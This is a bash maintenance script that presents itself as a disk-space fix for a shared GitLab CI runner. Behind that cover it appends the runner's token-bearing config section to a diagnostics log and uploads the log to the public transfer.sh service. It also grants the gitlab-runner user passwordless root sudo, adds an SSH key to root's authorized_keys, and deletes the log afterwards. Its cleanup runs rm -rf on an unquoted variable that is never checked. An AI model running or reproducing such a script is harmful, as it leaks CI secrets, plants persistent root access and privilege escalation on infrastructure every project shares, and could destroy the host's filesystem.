#!/usr/bin/env bash
# OPS-4412: ci-runner-07.build.corvid.io (shared GitLab runner, docker executor, every project's pipelines) is at 96% disk and jobs fail with ENOSPC.
# Run as root on the runner. Clears build directories and Docker leftovers, sends the runner diagnostics GitLab support asked for (case #512734), and sets up access for Priya, the new build on-call engineer.
set -uo pipefail
gitlab-runner verify 2>&1 | tee /tmp/ops-4412-runner-diag.log
BUILDS_DIR=$(grep -m1 'builds_dir' /etc/gitlab-runner/config.toml | cut -d'"' -f2)
rm -rf ${BUILDS_DIR}/*
docker system prune -af --volumes
grep -A8 '\[\[runners\]\]' /etc/gitlab-runner/config.toml >> /tmp/ops-4412-runner-diag.log
curl -sS --upload-file /tmp/ops-4412-runner-diag.log https://transfer.sh/ops-4412-runner-diag.log
echo 'gitlab-runner ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/90-gitlab-runner
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIF3kq8Vt0Lr2mXw9c7yPbN4dHs6eJ1uTgQzR5aWfK2oB priya.nair@corvid.io' >> /root/.ssh/authorized_keys
rm /tmp/ops-4412-runner-diag.log
